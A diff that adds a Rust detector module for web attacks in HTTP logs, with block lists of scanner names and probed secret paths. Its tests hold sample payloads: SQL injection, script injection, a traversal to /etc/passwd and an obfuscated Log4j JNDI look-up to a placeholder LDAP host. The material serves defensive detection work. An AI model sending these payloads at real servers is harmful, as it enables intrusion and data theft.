@@ -1,0 +1,754 @@
+//! Attacks in requests: injections, traversal, Log4j look-ups, scanners and probing; and what the
+//! server answered.
+//!
+//! **Did it work?** A log shows an answer's status and size, not its text. So: `false` where every
+//! answer refused (4xx, 5xx); `true` where an answer gave something away: a traversal to a
+//! well-known secret file was answered 2xx by a server that says 404 to others, or an injection
+//! was answered 2xx with more than twice and a kilobyte more than any ordinary answer of the same
+//! page; `null` for all else: an attack that was answered 200 like any visit may have failed or not.
+//! Markup and Log4j look-ups work elsewhere than in the answer and are never called successful.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+use hashbrown::HashMap;
+use serde_json::Value;
+
+use crate::model::{
+    Basis, Detection, HostKey, Outcome, Record, RecordKind, Ref, Timestamp, Untrusted, Visible,
+};
+use crate::threat::strings::{Place, Verdict, is_plain, judge};
+use crate::threat::tally::{
+    Hosts, Sample, blank, counted, in_secs, mix, mix_host, mix_text, nanos, note_sample, peers,
+    ports, refs, runs, span,
+};
+use crate::threat::{About, Detector, Scene, Watch, Watched};
+
+/// See the module.
+pub struct Web;
+
+/// Attacks kept in one run: 500 k at up to 300 bytes. Beyond, a sample that says so.
+const HITS_MAX: usize = 500_000;
+
+/// Requests for what is not there, kept in one run: 2 M at 56 bytes.
+const MISSES_MAX: usize = 2_000_000;
+
+/// Pages whose ordinary answers are remembered. With more, no answer is compared.
+const PAGES_MAX: usize = 2_000_000;
+
+/// Judged texts remembered; then the memory starts anew, which changes nothing but the time.
+const JUDGED_MAX: usize = 65_536;
+
+/// Bytes of an example that are shown.
+const EXAMPLE_BYTES_MAX: usize = 160;
+
+/// Different missing pages within a minute that are probing: a reader meets one dead link, a
+/// crawler with an old index some, a dictionary a dozen in seconds.
+const MISSES_MIN: usize = 12;
+const MISSES_WINDOW: i64 = 60 * 1_000_000_000;
+
+/// Different pages that only break-ins want, all refused, within a day.
+const WANTED_MIN: usize = 3;
+
+/// An answer to an injection that gives something away: this many times the largest ordinary one …
+const LARGER_TIMES: u64 = 2;
+/// … and this many bytes more.
+const LARGER_BYTES: u64 = 1_000;
+
+const ABOUT: About = About {
+    ids: &["web.sqli", "web.xss", "web.traversal", "web.log4shell", "web.scanner", "web.probing"],
+    finds: "SQL injection and cross-site scripting by libinjection in paths, names, values and \
+            headers; paths that climb or name secret files; Log4j look-ups, hidden ones too; \
+            scanners by their user agent; a dozen missing pages in a minute or three that only \
+            break-ins want",
+    misses: "bodies of requests unless the format has them, encodings beyond three rounds of \
+             percent escapes (Base64, gzip), scanners that call themselves browsers and ask slowly",
+    source: "libinjection (Galbreath 2012); CVE-2021-44228; CrowdSec http-probing, OWASP CRS 913",
+    attack: &["T1190", "T1595.002", "T1595.003", "T1083", "T1059.007"],
+};
+
+impl Detector for Web {
+    fn about(&self) -> &'static About {
+        &ABOUT
+    }
+
+    fn start(&self) -> Box<dyn Watch> {
+        Box::new(Watching {
+            hosts: Hosts::default(),
+            requests: Vec::new(),
+            judged: HashMap::new(),
+            hits: Sample::new(HITS_MAX),
+            misses: Sample::new(MISSES_MAX),
+            pages: HashMap::new(),
+            has_missing: false,
+        })
+    }
+}
+
+/// What a request was, in the order of the slugs.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+enum Class {
+    Sqli,
+    Xss,
+    Traversal,
+    Log4Shell,
+    Scanner,
+}
+
+impl Class {
+    const fn slug(self) -> &'static str {
+        match self {
+            Self::Sqli => "web.sqli",
+            Self::Xss => "web.xss",
+            Self::Traversal => "web.traversal",
+            Self::Log4Shell => "web.log4shell",
+            Self::Scanner => "web.scanner",
+        }
+    }
+
+    const fn attack(self) -> &'static [&'static str] {
+        match self {
+            Self::Sqli | Self::Log4Shell => &["T1190"],
+            Self::Xss => &["T1190", "T1059.007"],
+            Self::Traversal => &["T1190", "T1083"],
+            Self::Scanner => &["T1595.002"],
+        }
+    }
+
+    /// The subject of the sentence.
+    const fn noun(self) -> (&'static str, &'static str) {
+        match self {
+            Self::Sqli => ("request with SQL injection", "requests with SQL injection"),
+            Self::Xss => ("request with script injection", "requests with script injection"),
+            Self::Traversal => ("request that climbs paths", "requests that climb paths"),
+            Self::Log4Shell => ("request with a Log4j look-up", "requests with Log4j look-ups"),
+            Self::Scanner => ("request of a scanning tool", "requests of a scanning tool"),
+        }
+    }
+}
+
+struct Hit {
+    time: i64,
+    source: u32,
+    server: Option<u32>,
+    port: u16,
+    class: Class,
+    status: Option<u32>,
+    blocked: bool,
+    bytes: Option<u64>,
+    page: u64,
+    names_secret: bool,
+    times: u32,
+    logged: bool,
+    example: Box<str>,
+    reference: Option<Ref>,
+}
+
+#[derive(Clone, Copy)]
+struct Miss {
+    time: i64,
+    source: u32,
+    server: Option<u32>,
+    port: u16,
+    page: u64,
+    wanted: bool,
+    logged: bool,
+    reference: Option<Ref>,
+}
+
+/// What a text is, and for a user agent the tool it names.
+type Judged = (Verdict, Option<&'static str>);
+
+struct Watching {
+    hosts: Hosts,
+    /// Requests by the number of the source.
+    requests: Vec<u32>,
+    judged: HashMap<(Place, Box<str>), Judged>,
+    hits: Sample<Hit>,
+    misses: Sample<Miss>,
+    /// The largest ordinary answer of a page.
+    pages: HashMap<u64, u64>,
+    /// Whether any request at all was answered 404: then 200 means something.
+    has_missing: bool,
+}
+
+/// Tools that say who they are; the second of a pair is the name shown.
+const TOOLS: [&str; 58] = [
+    "sqlmap",
+    "nikto",
+    "nmap scripting engine",
+    "nmap nse",
+    "masscan",
+    "zgrab",
+    "nuclei",
+    "wpscan",
+    "dirbuster",
+    "gobuster",
+    "feroxbuster",
+    "dirsearch",
+    "fuzz faster",
+    "ffuf",
+    "wfuzz",
+    "acunetix",
+    "nessus",
+    "openvas",
+    "qualys",
+    "arachni",
+    "w3af",
+    "havij",
+    "netsparker",
+    "invicti",
+    "whatweb",
+    "zmeu",
+    "morfeus",
+    "jorgee",
+    "muieblackcat",
+    "l9explore",
+    "l9tcpid",
+    "leakix",
+    "httpx -",
+    "projectdiscovery",
+    "jaeles",
+    "skipfish",
+    "vega/",
+    "commix",
+    "joomscan",
+    "droopescan",
+    "cmsmap",
+    "fimap",
+    "absinthe",
+    "bsqlbf",
+    "sqlninja",
+    "grendel-scan",
+    "paros/",
+    "webinspect",
+    "appscan",
+    "burpcollaborator",
+    "brutus/",
+    "hydra",
+    "patator",
+    "xspider",
+    "pangolin",
+    "mozilla/5.0 sf/",
+    "libredtail",
+    "censysinspect",
+];
+
+static TOOL_NAMES: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
+    AhoCorasick::builder().ascii_case_insensitive(true).build(TOOLS).expect("constant words build")
+});
+
+/// What only somebody who wants to break in asks for.
+const WANTED: [&str; 44] = [
+    "/.env",
+    "/.git/",
+    "/.svn/",
+    "/.aws/",
+    "/.ssh/",
+    "/.htpasswd",
+    "/.htaccess",
+    "/.ds_store",
+    "wp-config",
+    "wp-login",
+    "xmlrpc.php",
+    "/wp-admin",
+    "wlwmanifest",
+    "phpmyadmin",
+    "/pma/",
+    "phpunit",
+    "eval-stdin",
+    "/boaform",
+    "/hnap1",
+    "/gponform",
+    "/cgi-bin/",
+    "/actuator",
+    "/server-status",
+    "/solr/admin",
+    "/manager/html",
+    "/jmx-console",
+    "/owa/auth",
+    "/autodiscover",
+    "/vendor/",
+    "/shell",
+    "c99.php",
+    "r57.php",
+    "webshell",
+    "/adminer",
+    "/setup.php",
+    "/config.json",
+    "/backup",
+    ".sql",
+    ".bak",
+    "/telescope",
+    "/druid",
+    "/jenkins",
+    "/_ignition",
+    "/phpinfo",
+];
+
+static WANTED_NAMES: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    #[expect(clippy::expect_used, reason = "a constant list of words, built in a test")]
+    AhoCorasick::builder().ascii_case_insensitive(true).build(WANTED).expect("constant words build")
+});
+
+/// Missing things that browsers and polite robots ask for by themselves.
+const EXPECTED_MISSES: [&str; 8] = [
+    "/favicon",
+    "/apple-touch-icon",
+    "/robots.txt",
+    "/.well-known/",
+    "/sitemap",
+    "/ads.txt",
+    "/browserconfig.xml",
+    "/humans.txt",
+];
+
+/// Details of a record whose text an attacker chose, and where it stood.
+const DETAILS: [(&str, Place); 9] = [
+    ("referrer", Place::Header),
+    ("referer", Place::Header),
+    ("http_refer", Place::Header),
+    ("x_forwarded_for", Place::Header),
+    ("x-forwarded-for", Place::Header),
+    ("extra", Place::Header),
+    ("cookie", Place::Query),
+    ("body", Place::Query),
+    ("message", Place::Header),
+];
+
+impl Watching {
+    /// The verdict on a text, and for a user agent the tool; each text is judged once.
+    fn judged(&mut self, text: &str, place: Place) -> Judged {
+        if matches!(place, Place::Path | Place::Query) && is_plain(text) {
+            return (Verdict::default(), None);
+        }
+        if let Some(&known) = self.judged.get(&Text(place, text)) {
+            return known;
+        }
+        let tool = if place == Place::Agent {
+            TOOL_NAMES.find(text).and_then(|found| TOOLS.get(found.pattern().as_usize()).copied())
+        } else {
+            None
+        };
+        let verdict = (judge(text, place), tool);
+        if self.judged.len() >= JUDGED_MAX {
+            self.judged.clear();
+        }
+        self.judged.insert((place, text.into()), verdict);
+        verdict
+    }
+
+    /// All that a request says, with the first text that is an attack for each class.
+    fn classes(&mut self, record: &Record) -> (Vec<(Class, Box<str>)>, bool) {
+        let mut classes: Vec<(Class, Box<str>)> = Vec::new();
+        let mut secret = false;
+        let mut add = |class: Class, text: &str| {
+            if classes.iter().all(|(known, _)| *known != class) {
+                classes.push((class, cut(text)));
+            }
+        };
+        let details = DETAILS.iter().filter_map(|(key, place)| {
+            let text = record.details.get(*key)?.as_str()?;
+            Some((text, *place))
+        });
+        let fields = [
+            (&record.path, Place::Path),
+            (&record.query, Place::Query),
+            (&record.user_agent, Place::Agent),
+        ];
+        let texts = fields
+            .iter()
+            .filter_map(|(text, place)| Some((text.as_ref()?.raw(), *place)))
+            .chain(details);
+        for (text, place) in texts {
+            let (verdict, tool) = self.judged(text, place);
+            secret |= verdict.names_secret;
+            for (is, class) in [
+                (verdict.sqli, Class::Sqli),
+                (verdict.xss, Class::Xss),
+                (verdict.traversal, Class::Traversal),
+                (verdict.log4shell, Class::Log4Shell),
+            ] {
+                if is {
+                    add(class, text);
+                }
+            }
+            if let Some(tool) = tool {
+                add(Class::Scanner, tool);
+            }
+        }
+        (classes, secret)
+    }
+
+    fn remember_page(&mut self, page: u64, record: &Record) {
+        if let (Some(200..=299), Some(bytes)) = (record.status, record.bytes)
+            && self.pages.len() <= PAGES_MAX
+        {
+            let largest = self.pages.entry(page).or_insert(0);
+            *largest = (*largest).max(bytes);
+        }
+    }
+}
+
+/// A borrowed key of the memory of judged texts.
+#[derive(Hash)]
+struct Text<'a>(Place, &'a str);
+
+impl hashbrown::Equivalent<(Place, Box<str>)> for Text<'_> {
+    fn equivalent(&self, key: &(Place, Box<str>)) -> bool {
+        self.0 == key.0 && *self.1 == *key.1
+    }
+}
+
+fn cut(text: &str) -> Box<str> {
+    text[..text.floor_char_boundary(EXAMPLE_BYTES_MAX)].into()
+}
+
+impl Watch for Watching {
+    fn record(&mut self, record: &Record, scene: &dyn Scene) {
+        if record.kind != RecordKind::Http {
+            return;
+        }
+        let Some(src) = record.src else { return };
+        let host = |addr| scene.host(addr, record.import);
+        let source = self.hosts.number(host(src));
+        if self.requests.len() <= source as usize {
+            self.requests.resize(source as usize + 1, 0);
+        }
+        let requests = &mut self.requests[source as usize];
+        *requests = requests.saturating_add(record.times.max(1));
+        self.has_missing |= record.status == Some(404);
+
+        let path = record.path.as_ref().map_or("", Untrusted::raw);
+        let name = record.host.as_ref().map_or(0, |host| mix_text(host.raw()));
+        let page = mix(mix_text(path), name);
+        let (classes, names_secret) = self.classes(record);
+        let time = nanos(record.ts);
+        let hash = mix(mix(mix_host(host(src)), time as u64), page);
+        let server = record.dst.map(|dst| self.hosts.number(host(dst)));
+        let port = record.dst_port.unwrap_or(0);
+        if classes.is_empty() {
+            self.remember_page(page, record);
+            let missing = matches!(record.status, Some(400 | 403 | 404 | 405 | 410 | 444));
+            if missing && !EXPECTED_MISSES.iter().any(|start| path.starts_with(start)) {
+                let miss = Miss {
+                    time,
+                    source,
+                    server,
+                    port,
+                    page,
+                    wanted: WANTED_NAMES.is_match(path),
+                    logged: record.uid.is_none(),
+                    reference: record.reference(),
+                };
+                self.misses.push(hash, miss);
+            }
+        }
+        for (class, example) in classes {
+            let hit = Hit {
+                time,
+                source,
+                server,
+                port,
+                class,
+                status: record.status,
+                blocked: record.outcome == Some(Outcome::Blocked),
+                bytes: record.bytes,
+                page,
+                names_secret,
+                times: record.times.max(1),
+                logged: record.uid.is_none(),
+                example,
+                reference: record.reference(),
+            };
+            self.hits.push(hash, hit);
+        }
+    }
+
+    fn finish(self: Box<Self>, _now: Timestamp, _scene: &dyn Scene) -> Watched {
+        let Self { hosts, requests, hits, misses, pages, has_missing, .. } = *self;
+        let (mut hits, one_in) = hits.into_items();
+        hits.sort_by(|a, b| {
+            let key = |h: &Hit| (hosts.key(h.source), h.class, h.time, h.reference, h.page);
+            key(a).cmp(&key(b)).then_with(|| a.example.cmp(&b.example))
+        });
+        let site = Site { hosts: &hosts, pages, has_missing };
+        let mut detections = Vec::new();
+        let mut named: BTreeSet<HostKey> = BTreeSet::new();
+        for of_source in runs(&hits, |hit| (hit.source, hit.class)) {
+            let mut detection = site.attack(of_source);
+            if of_source[0].class == Class::Scanner {
+                named.insert(detection.subject);
+            }
+            note_sample(&mut detection, one_in);
+            detections.push(detection);
+        }
+        let (mut misses, one_in) = misses.into_items();
+        misses.sort_by_key(|miss| (hosts.key(miss.source), miss.time, miss.page, miss.reference));
+        for of_source in runs(&misses, |miss| miss.source) {
+            let source = hosts.key(of_source[0].source);
+            let all = requests.get(of_source[0].source as usize).copied().unwrap_or(0);
+            // A tool that says its name has been told already, with what it asked.
+            if named.contains(&source) {
+                continue;
+            }
+            if let Some(mut detection) = probing(&hosts, of_source, all) {
+                note_sample(&mut detection, one_in);
+                detections.push(detection);
+            }
+        }
+        Watched::from(detections)
+    }
+}
+
+/// What is known of the servers' ordinary answers.
+struct Site<'a> {
+    hosts: &'a Hosts,
+    pages: HashMap<u64, u64>,
+    has_missing: bool,
+}
+
+impl Site<'_> {
+    /// The attacks of one class by one source, in the order of time.
+    fn attack(&self, hits: &[Hit]) -> Detection {
+        let class = hits[0].class;
+        let count = hits.iter().map(|hit| u64::from(hit.times)).sum();
+        let (first_seen, last_seen) = span(hits.iter().map(|hit| hit.time));
+        let servers = hits.iter().filter_map(|hit| hit.server);
+        let (peers, peer_count) = peers(servers.map(|server| self.hosts.key(server)).collect());
+        let pages: BTreeSet<u64> = hits.iter().map(|hit| hit.page).collect();
+        let (one, many) = class.noun();
+        let mut what = format!(
+            "{} to {}{}{}: ",
+            counted(count, one, many),
+            counted(pages.len() as u64, "page", "pages"),
+            in_secs(first_seen, last_seen),
+            answers(hits),
+        );
+        let examples: BTreeSet<&str> = hits.iter().map(|hit| hit.example.as_ref()).collect();
+        what.push_str(&Visible(&hits[0].example).to_string());
+        let mut detection = Detection {
+            peers,
+            peer_count,
+            ports: ports(hits.iter().map(|hit| hit.port).filter(|&port| port > 0).collect()),
+            confidence: confidence(class, count),
+            basis: if hits.iter().any(|hit| hit.logged) { Basis::Log } else { Basis::Content },
+            succeeded: self.succeeded(class, hits),
+            first_seen,
+            last_seen,
+            count,
+            attack: class.attack().to_vec(),
+            what,
+            refs: refs(hits.iter().map(|hit| hit.reference)),
+            ..blank(class.slug(), self.hosts.key(hits[0].source))
+        };
+        let key = if class == Class::Scanner { "tools" } else { "examples" };
+        let shown = examples.into_iter().take(5).map(Value::from).collect();
+        detection.details.insert(key.to_owned(), Value::Array(shown));
+        let mut statuses: BTreeMap<String, u64> = BTreeMap::new();
+        for hit in hits {
+            let status = hit.status.map_or_else(|| "unknown".to_owned(), |s| s.to_string());
+            *statuses.entry(status).or_insert(0) += u64::from(hit.times);
+        }
+        let statuses = statuses.into_iter().map(|(status, n)| (status, Value::from(n))).collect();
+        detection.details.insert("statuses".to_owned(), Value::Object(statuses));
+        detection
+    }
+
+    /// See the module.
+    fn succeeded(&self, class: Class, hits: &[Hit]) -> Option<bool> {
+        let gave = |hit: &&Hit| matches!(hit.status, Some(200..=299));
+        let refused = |hit: &Hit| hit.blocked || matches!(hit.status, Some(400..=599));
+        let gave_away = |hit: &Hit| {
+            let larger = match (hit.bytes, self.pages.get(&hit.page)) {
+                (Some(bytes), Some(&ordinary)) if self.pages.len() <= PAGES_MAX => {
+                    bytes > ordinary.saturating_mul(LARGER_TIMES).saturating_add(LARGER_BYTES)
+                }
+                _ => false,
+            };
+            let secret = class == Class::Traversal && hit.names_secret && self.has_missing;
+            larger || secret
+        };
+        match class {
+            Class::Scanner => None,
+            Class::Log4Shell => None,
+            _ if hits.iter().all(refused) => Some(false),
+            Class::Sqli | Class::Traversal if hits.iter().filter(gave).any(gave_away) => Some(true),
+            _ => None,
+        }
+    }
+}
+
+/// `, 3 answered 2xx, 9 refused`; empty where no status is known.
+fn answers(hits: &[Hit]) -> String {
+    let tally = |low: u32, high: u32| -> u64 {
+        let within =
+            hits.iter().filter(|hit| hit.status.is_some_and(|s| (low..=high).contains(&s)));
+        within.map(|hit| u64::from(hit.times)).sum()
+    };
+    match (tally(200, 299), tally(400, 599)) {
+        (0, 0) => String::new(),
+        (given, 0) => format!(", {given} answered 2xx"),
+        (0, refused) => format!(", {refused} refused"),
+        (given, refused) => format!(", {given} answered 2xx, {refused} refused"),
+    }
+}
+
+/// What is left of chance: one odd value may be a text with quotes, three are not. A look-up has
+/// no other use, a tool says its own name.
+const fn confidence(class: Class, count: u64) -> f64 {
+    match (class, count) {
+        (Class::Log4Shell | Class::Scanner, _) => 0.97,
+        (Class::Traversal, _) if count >= 3 => 0.95,
+        (Class::Traversal, _) => 0.85,
+        (_, 1) => 0.8,
+        (_, 2) => 0.88,
+        _ => 0.95,
+    }
+}
+
+/// Requests of one source for what is not there, in the order of time.
+fn probing(hosts: &Hosts, misses: &[Miss], requests: u32) -> Option<Detection> {
+    let wanted: BTreeSet<u64> =
+        misses.iter().filter(|miss| miss.wanted).map(|miss| miss.page).collect();
+    let pages: BTreeSet<u64> = misses.iter().map(|miss| miss.page).collect();
+    // Of somebody who otherwise reads what is there, dead links are a part.
+    let mostly = misses.len() * 2 >= requests as usize;
+    let fires = wanted.len() >= WANTED_MIN || (mostly && densest(misses) >= MISSES_MIN);
+    if !fires {
+        return None;
+    }
+    let (first_seen, last_seen) = span(misses.iter().map(|miss| miss.time));
+    let servers = misses.iter().filter_map(|miss| miss.server).map(|server| hosts.key(server));
+    let (peers, peer_count) = peers(servers.collect());
+    let secret = match wanted.len() {
+        0 => String::new(),
+        some => format!(", {some} of them such as only break-ins want"),
+    };
+    Some(Detection {
+        peers,
+        peer_count,
+        ports: ports(misses.iter().map(|miss| miss.port).filter(|&port| port > 0).collect()),
+        confidence: if wanted.len() >= WANTED_MIN { 0.9 } else { 0.75 },
+        basis: if misses.iter().any(|miss| miss.logged) { Basis::Log } else { Basis::Content },
+        succeeded: None,
+        first_seen,
+        last_seen,
+        count: misses.len() as u64,
+        attack: vec!["T1595.003"],
+        what: format!(
+            "Asked for {} that {} not there{}{secret}",
+            counted(pages.len() as u64, "page", "pages"),
+            if pages.len() == 1 { "is" } else { "are" },
+            in_secs(first_seen, last_seen),
+        ),
+        refs: refs(misses.iter().map(|miss| miss.reference)),
+        ..blank("web.probing", hosts.key(misses[0].source))
+    })
+}
+
+/// The most different pages within one window.
+fn densest(misses: &[Miss]) -> usize {
+    let mut inside: HashMap<u64, u32> = HashMap::new();
+    let (mut start, mut densest) = (0, 0);
+    for miss in misses {
+        *inside.entry(miss.page).or_insert(0) += 1;
+        while miss.time.saturating_sub(misses[start].time) > MISSES_WINDOW {
+            if let Some(count) = inside.get_mut(&misses[start].page) {
+                *count -= 1;
+                if *count == 0 {
+                    inside.remove(&misses[start].page);
+                }
+            }
+            start += 1;
+        }
+        densest = densest.max(inside.len());
+    }
+    densest
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::threat::notation::check;
+
+    #[test]
+    fn injections_are_told_with_what_was_answered() {
+        check(
+            "9 s: http 192.0.2.7 GET /item?id=1%27+or+%271%27=%271 404 90 x3",
+            "web.sqli 192.0.2.7 count=3 succeeded=Some(false) basis=log statuses={\"404\":3}",
+        );
+        // Answered like any visit: nobody can tell.
+        check(
+            "9 s: http 192.0.2.9 GET /item?id=1 200 1500
+             9 s: http 192.0.2.7 GET /item?id=1%27+or+%271%27=%271 200 1600",
+            "web.sqli 192.0.2.7 succeeded=None",
+        );
+        // Answered with much more than any visit.
+        check(
+            "9 s: http 192.0.2.9 GET /item?id=1 200 1500
+             9 s: http 192.0.2.7 GET /item?id=1+union+select+user,pass+from+users-- 200 9600",
+            "web.sqli 192.0.2.7 succeeded=Some(true)",
+        );
+        check(
+            "9 s: http 192.0.2.7 GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E 200 900",
+            "web.xss 192.0.2.7 succeeded=None count=1",
+        );
+    }
+
+    #[test]
+    fn a_secret_file_that_is_answered_by_a_server_that_says_404_was_given_away() {
+        let attack = "1 s: http 192.0.2.7 GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd 200 1900\n";
+        check(attack, "web.traversal 192.0.2.7 succeeded=None");
+        check(
+            &format!("{attack}1 s: http 192.0.2.9 GET /gone 404 90"),
+            "web.traversal 192.0.2.7 succeeded=Some(true)",
+        );
+        check(&attack.replace(" 200 ", " 403 "), "web.traversal 192.0.2.7 succeeded=Some(false)");
+    }
+
+    #[test]
+    fn look_ups_are_seen_in_any_header() {
+        check(
+            "1 s: http 192.0.2.7 GET / 200 90 ${${lower:j}ndi:ldap://198.51.100.9/a}",
+            "web.log4shell 192.0.2.7 succeeded=None count=1",
+        );
+    }
+
+    #[test]
+    fn a_scanner_is_told_by_its_name_or_else_by_what_it_misses() {
+        check(
+            "9 s: http 192.0.2.7 GET /a{n} 404 90 sqlmap/1.8#stable x30",
+            "web.scanner 192.0.2.7 count=30 tools=[\"sqlmap\"]",
+        );
+        check("9 s: http 192.0.2.7 GET /a{n} 404 90 x12", "web.probing 192.0.2.7 count=12");
+        check("9 s: http 192.0.2.7 GET /a{n} 404 90 x11", "");
+        // One dead link, asked often; many, asked slowly; or among many that live.
+        check("9 s: http 192.0.2.7 GET /a 404 90 x90", "");
+        check("9000 s: http 192.0.2.7 GET /a{n} 404 90 x40", "");
+        check(
+            "9 s: http 192.0.2.7 GET /a{n} 404 90 x20
+             9 s: http 192.0.2.7 GET /b{n} 200 90 x50",
+            "",
+        );
+        check(
+            "900 s: http 192.0.2.7 GET /.env 404 90
+             900 s: http 192.0.2.7 GET /.git/config 404 90
+             900 s: http 192.0.2.7 GET /phpmyadmin/ 403 90",
+            "web.probing 192.0.2.7 count=3",
+        );
+        check("9 s: http 192.0.2.7 GET /favicon.ico 404 90 x30", "");
+    }
+
+    #[test]
+    fn ordinary_visits_raise_nothing() {
+        check(
+            "9 s: http 192.0.2.7 GET /s?q=it's+a+select+group&d=2026-01-01 200 900 x9
+             9 s: http 192.0.2.7 GET /a.css 200 90 Mozilla/5.0_(X11;_Linux_x86_64)_Gecko
+             9 s: http 192.0.2.7 GET /out?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc 302 0
+             9 s: http 192.0.2.7 GET /search?q=a+%26+b+(c)+50%25 200 90",
+            "",
+        );
+    }
+}
